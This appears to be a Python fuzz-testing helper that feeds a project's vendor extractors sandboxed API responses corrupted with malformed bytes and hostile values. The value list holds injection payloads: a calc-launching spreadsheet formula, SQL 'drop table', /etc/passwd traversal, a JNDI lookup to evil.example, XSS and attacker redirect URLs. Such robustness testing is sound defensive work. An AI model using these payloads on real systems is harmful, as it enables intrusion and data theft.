"""A vendor whose answers are the sandbox's, one of them changed: no network, no server."""

from __future__ import annotations

import copy
import gzip
import importlib
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson
import requests
from hypothesis import strategies as st
from starlette.testclient import TestClient

from extractors.registry import VENDORS
from sandbox.app import Sandbox, SourceSpec
from sandbox.run_with import CREDENTIALS

HOST = "http://testserver"
STREAMS = tuple((vendor, stream.name) for vendor in sorted(VENDORS) for stream in VENDORS[vendor].streams)

RAW = (
    b"",
    b"null",
    b"[]",
    b"{}",
    b'"text"',
    b"<html><script>alert(1)</script></html>",
    b"[" * 100_000,
    b'{"a":' * 2000 + b"1" + b"}" * 2000,
    b"\xff\xfe\x00",
    b"\xef\xbb\xbf{}",
    b'{"posts": NaN}',
    b'{"id": 1, "id": 2}',
)
"""Whole answers no vendor should give."""

VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    2**63,
    -(2**63),
    1e308,
    0.1,
    "",
    " ",
    "0",
    "\x00",
    "a\x00b",
    "\u202etxt.exe\u202c",
    "\ufffe",
    "👩‍👩‍👧‍👦" * 50,
    "x" * 300_000,
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "'; drop table raw.discourse__posts; --",
    "../../../etc/passwd",
    "{{ 7*7 }}",
    "${jndi:ldap://evil.example/a}",
    "9999-99-99T99:99:99Z",
    "0000-01-01T00:00:00Z",
    "2026-03-01T00:00:00+99:99",
    "//evil.example/next?page=2",
    "https://testserver@evil.example/next",
    "https://[",
    "http://testserver:99999999/x",
    "javascript:alert(1)",
    "file:///etc/passwd",
    [],
    {},
    [None],
    [{}],
    [[[]]],
    {"": ""},
    {"__proto__": {"id": 1}},
    orjson.loads(b"[" * 300 + b"]" * 300),
)
"""Put in the place of any value of an answer."""


@dataclass(frozen=True)
class Attack:
    """What is done to one answer: bytes in its place, or a change at one place of its tree."""

    place: int
    """Which answer of the stream and which value of it, counted round."""
    what: str
    """`raw`, `value`, `remove`, `twice` or `cut`."""
    value: int = 0


def attacks() -> st.SearchStrategy[Attack]:
    """Any attack; mostly a wrong value deep in an answer."""
    places = st.integers(0, 10_000)
    values = st.builds(Attack, places, st.just("value"), st.integers(0, len(VALUES) - 1))
    return st.one_of(
        values,
        values,
        values,
        st.builds(Attack, places, st.just("raw"), st.integers(0, len(RAW) - 1)),
        st.builds(Attack, places, st.sampled_from(("remove", "twice", "cut"))),
    )


def altered(body: bytes, attack: Attack) -> bytes:
    """The answer after the attack."""
    if attack.what == "raw":
        return RAW[attack.value]
    if attack.what == "cut":
        return body[: attack.place % max(len(body), 1)]
    answer = copy.deepcopy(orjson.loads(body))
    places = list(_places(answer))
    if not places:
        return RAW[attack.place % len(RAW)]
    parent, key = places[attack.place % len(places)]
    if attack.what == "remove":
        del parent[key]
    elif attack.what == "twice" and isinstance(parent, list):
        parent.append(parent[key])
    else:
        parent[key] = VALUES[attack.value]
    # orjson writes no deeper than 254 levels, and no integer over 64 bits.
    return json.dumps(answer).encode()


def _places(node: Any) -> Iterator[tuple[Any, Any]]:
    children = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, child in list(children):
        yield node, key
        yield from _places(child)


@dataclass
class Vendors:
    """The sandbox's answers, remembered; one of a stream's can be attacked."""

    client: TestClient
    attack: Attack | None = None
    tried: int = 0
    _known: dict[tuple[str, str, str], tuple[int, Mapping[str, str], bytes]] = field(default_factory=dict)

    def exchange(
        self,
        session: Any,
        method: str,
        url: str,
        form: Mapping[str, str] | None,
        headers: Mapping[str, str],
        **_: Any,
    ) -> tuple[requests.Response, bytes]:
        """In the place of extractors.exchange.exchange."""
        asked = (method, url, headers.get("Authorization", "") or headers.get("Api-Key", ""))
        if not url.startswith(HOST + "/"):
            raise AssertionError(f"a request left for {url}")
        if asked not in self._known:
            made = self.client.request(method, url, data=form, headers=dict(headers), follow_redirects=False)
            self._known[asked] = (made.status_code, dict(made.headers), made.content)
        status, told, body = self._known[asked]
        if self.attack and method == "GET" and status == 200:
            # The first answers are attacked and those of every try again, so that it meets no good one.
            if self.attack.place % 3 <= self.tried:
                body = altered(body, self.attack)
            self.tried += 1
        response = requests.Response()
        response.status_code = status
        response.headers.update(told)
        return response, body


def sandbox_of(folder: Path) -> Sandbox:
    """All vendors over the smallest datasets there are."""
    for vendor in VENDORS:
        (folder / vendor / vendor).mkdir(parents=True)
        module = importlib.import_module(f"tests.extractors.datasets.{vendor}")
        for stream, records in module.records().items():
            with gzip.open(folder / vendor / vendor / f"{stream}.jsonl.gz", "wb") as file:
                file.write(b"".join(orjson.dumps(record) + b"\n" for record in records))
    return Sandbox([SourceSpec(vendor, vendor, folder / vendor) for vendor in VENDORS])


def login(vendor: str) -> tuple[str, str]:
    """The sandbox's credentials."""
    name, password = CREDENTIALS[vendor]
    return str(name), str(password)
